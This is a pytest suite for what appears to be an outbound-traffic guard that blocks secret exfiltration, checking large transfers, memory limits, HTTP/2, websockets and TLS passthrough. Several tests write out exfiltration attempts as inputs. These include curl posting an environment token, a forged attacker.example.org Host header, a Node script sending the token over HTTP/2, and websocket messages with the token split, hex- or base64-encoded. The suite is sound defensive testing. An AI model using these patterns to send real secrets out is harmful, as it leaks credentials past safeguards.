"""Large and long transfers: correct to the byte, scanned to the end, in bounded memory."""

from __future__ import annotations

import hashlib
import subprocess
import tempfile
from pathlib import Path

import pytest

from tests.attacks.programs import PYTHON
from tests.world import World
from tests.world.internet import API
from tests.world.servers import pattern
from tests.world.watch import PeakMemory, gate_of

APIS = (API, "2001:db8::10")
SIZE = 300_000_000
BOUND = 150 << 20  # bytes of resident memory the gate may take
ALLOWED = ["--allow", "api.example.com", "--allow", "http://api.example.com"]


@pytest.fixture(scope="module")
def large(tmp_path_factory: pytest.TempPathFactory) -> Path:
    file = tmp_path_factory.mktemp("large") / "file"
    with file.open("wb") as opened:
        block = pattern(1 << 20)
        for start in range(0, SIZE, 1 << 20):
            opened.write(block[: min(1 << 20, SIZE - start)])
    return file


def watched(world: World, command: list[str], env: dict[str, str] | None = None) -> tuple[int, bytes, bytes, int]:
    """(exit code, stdout, stderr, peak resident bytes of the gate)."""
    line = world.guard.command_line(["--report", tempfile.mkdtemp(dir=world.directory), *ALLOWED], command)
    run = subprocess.Popen(
        world.guard.entering(line), env=world.guard.environment(env), cwd="/", stdout=subprocess.PIPE, stderr=subprocess.PIPE
    )
    memory = PeakMemory(gate_of(run))
    out, err = run.communicate(timeout=240)
    return run.returncode, out, err, memory.result()


def test_a_large_download(world: World, tmp_path: Path, large: Path) -> None:
    target = tmp_path / "out"
    code, _out, err, peak = watched(world, ["curl", "-sS", "-o", str(target), f"https://api.example.com/bytes/{SIZE}"])
    assert code == 0, err.decode()
    assert hashlib.sha256(target.read_bytes()).digest() == hashlib.sha256(large.read_bytes()).digest()
    assert peak < BOUND


@pytest.mark.parametrize("framing", ["length", "chunked", "http/2"])
def test_a_large_upload(world: World, large: Path, framing: str) -> None:
    extra = {"length": [], "chunked": ["-H", "Transfer-Encoding: chunked"], "http/2": ["--http2-prior-knowledge"]}[framing]
    env = {f"SOME_TOKEN_{number}": hashlib.sha256(b"%d" % number).hexdigest() for number in range(50)}
    code, out, err, peak = watched(world, ["curl", "-sS", *extra, "-T", str(large), "https://api.example.com/up"], env)
    assert code == 0, err.decode()
    assert f"{SIZE} {hashlib.sha256(large.read_bytes()).hexdigest()}" in out.decode()
    assert peak < BOUND, err.decode()


@pytest.mark.parametrize("framing", ["length", "chunked"])
def test_a_secret_in_the_last_bytes_of_a_large_upload(
    world: World, tmp_path: Path, large: Path, secret: str, framing: str
) -> None:
    file = tmp_path / "with"
    content = bytearray(large.read_bytes())
    content[-45 : -45 + len(secret)] = secret.encode()
    file.write_bytes(content)
    del content
    extra = ["-H", "Transfer-Encoding: chunked"] if framing == "chunked" else []
    code, _out, err, peak = watched(
        world, ["curl", "-sS", *extra, "-T", str(file), "https://api.example.com/up"], {"A_TOKEN": secret}
    )
    assert code == 91, err.decode()
    seen = world.at(*APIS)[0]
    assert not seen.requests[0].complete
    assert secret.encode()[:12] not in seen.tail
    assert peak < BOUND


def test_a_slow_reader_does_not_fill_the_gate(world: World) -> None:
    command = ["timeout", "6", "curl", "-sS", "--limit-rate", "2M", "-o", "/dev/null", f"https://api.example.com/bytes/{SIZE}"]
    _code, _out, _err, peak = watched(world, command)
    assert peak < BOUND


def test_http2_in_the_clear_is_judged_alike(world: World, secret: str) -> None:
    base = "curl -sS --http2-prior-knowledge -w ' %{http_version} %{http_code}\\n'"
    script = (
        f'{base} http://api.example.com/fine; {base} -d "x=$A_TOKEN" http://api.example.com/leak;'
        f' {base} -H "Host: attacker.example.org" http://api.example.com/; {base} http://api.example.com/last'
    )
    outcome = world.guard.run([*ALLOWED, "--on-exfiltration", "fail"], ["sh", "-c", script], env={"A_TOKEN": secret})
    assert outcome.code == 91, outcome.stderr
    lines = [line for line in outcome.stdout.splitlines() if line.endswith(("200", "403", "000"))]
    assert [line.split()[-2:] for line in lines] == [["2", "200"], ["2", "403"], ["2", "403"], ["2", "200"]]
    assert [request.path for one in world.at(*APIS) for request in one.requests] == ["/fine", "/last"]


_HTTP2_ONLY = """
const session = require('http2').connect('https://api.example.com');
const bodies = ['fine', 'token=' + process.env.A_TOKEN];
function next() {
  const body = bodies.shift();
  if (!body) return session.close();
  const request = session.request({':method': 'POST', ':path': '/h2'});
  request.on('response', headers => console.log(headers[':status']));
  request.on('data', () => {}); request.on('end', next); request.end(body);
}
next();
"""


def test_a_client_that_speaks_only_http2(world: World, secret: str) -> None:
    """As gRPC does."""
    options = [*ALLOWED, "--on-exfiltration", "fail"]
    outcome = world.guard.run(options, ["node", "-e", _HTTP2_ONLY], env={"A_TOKEN": secret})
    assert outcome.code == 91, outcome.stderr
    assert outcome.stdout == "200\n"  # the second stream is cut: its body has no announced length, so its head had left
    assert [request.body for one in world.at(*APIS) for request in one.requests if request.body] == [b"fine"]
    assert secret.encode()[:12] not in world.received(*APIS)


_SOCKET = """
import os, sys
import websockets.sync.client as client
value = os.environ["A_TOKEN"]
with client.connect("wss://api.example.com/ws", compression=None) as socket:
    socket.send("hello"); print(socket.recv(timeout=5))
    for message in eval(sys.argv[1]):
        socket.send(message); print(socket.recv(timeout=5))
"""


def test_websockets_work(world: World, secret: str) -> None:
    program = [PYTHON, "-c", _SOCKET, "['x' * 200_000, b'binary']"]
    outcome = world.guard.run(ALLOWED, program, env={"A_TOKEN": secret})
    assert outcome.code == 0, outcome.stderr
    assert outcome.stdout == "ack 5\nack 200000\nack 6\n"


@pytest.mark.parametrize(
    "messages",
    ["[value]", "[value[:15], value[15:]]", "list(value)", "[value.encode().hex()]", "['a' * 70000 + value]", "[__import__('base64').b64encode(value.encode())]"],
)  # fmt: skip
def test_a_secret_in_a_websocket(world: World, secret: str, messages: str) -> None:
    program = [PYTHON, "-c", _SOCKET, messages]
    outcome = world.guard.run([*ALLOWED, "--on-exfiltration", "fail"], program, env={"A_TOKEN": secret})
    assert outcome.code == 91, outcome.stderr
    received = world.received(*APIS)
    assert b"hello" in received
    assert secret.encode() not in received
    assert secret.encode().hex().encode() not in received
    assert {one["place"] for one in outcome.incidents} == {"websocket"}


def test_advertisements_of_http3_are_dropped(world: World) -> None:
    outcome = world.guard.run(ALLOWED, ["curl", "-sS", "-i", "https://api.example.com/h3"])
    assert outcome.code == 0
    assert "alt-svc" not in outcome.stdout.lower()


def test_many_requests_at_once(world: World) -> None:
    program = (
        "import concurrent.futures as f, urllib.request as u\n"
        "get = lambda n: u.urlopen(f'https://api.example.com/{n}').read().decode()\n"
        "with f.ThreadPoolExecutor(16) as pool:\n"
        "    answers = list(pool.map(get, range(300)))\n"
        "print(all(f'GET /{n} ' in one for n, one in enumerate(answers)))\n"
    )
    outcome = world.guard.run(ALLOWED, [PYTHON, "-c", program])
    assert outcome.code == 0, outcome.stderr
    assert outcome.stdout == "True\n"
    assert outcome.report["destinations"][0]["exchanges"] == 300


def test_hundreds_of_connections_at_once(world: World) -> None:
    """While handshakes kept the gate busy, one question was read a turn, and the rest of them was lost."""
    program = (
        "import concurrent.futures as f, ssl, urllib.request as u\n"
        "trust = ssl.create_default_context()\n"  # once: what takes a program's time is no load of the gate's
        "get = lambda n: u.urlopen(f'https://api.example.com/{n}', timeout=60, context=trust).status\n"
        "with f.ThreadPoolExecutor(400) as pool:\n"
        "    print(set(pool.map(get, range(400))))\n"
    )
    outcome = world.guard.run(ALLOWED, [PYTHON, "-c", program], timeout=120)
    assert outcome.stdout == "{200}\n", outcome.stderr
    assert outcome.code == 0


def test_a_pinning_client_is_named(world: World) -> None:
    """A client that refuses the guard's certificate fails; the report says which, and a passthrough rule lets it work."""
    pinned = ["curl", "-sS", "--cacert", str(world.directory / "ca.pem"), "https://files.example.net/"]
    outcome = world.guard.run(["--allow", "files.example.net"], pinned)
    assert outcome.code == 60
    policy = world.directory / "pinned.yml"
    policy.write_text("version: 1\nallow: [{ host: files.example.net, tls: passthrough }]\n")
    passed = world.guard.run(["--policy", str(policy)], pinned)
    assert passed.code == 0, passed.stderr
    assert "not inspected: TLS passed through by rule" in passed.stderr
    assert passed.report["uninspected_bytes"] > 0


def test_passthrough_is_judged_by_name_and_address(world: World) -> None:
    policy = world.directory / "pinned.yml"
    policy.write_text("version: 1\nallow: [{ host: files.example.net, tls: passthrough }]\n")
    forged = ["curl", "-sSk", "--connect-to", "files.example.net:443:203.0.113.66:443", "https://files.example.net/"]
    outcome = world.guard.run(["--policy", str(policy)], forged)
    assert outcome.code == 90
    assert world.packets_to("203.0.113.66") == set()
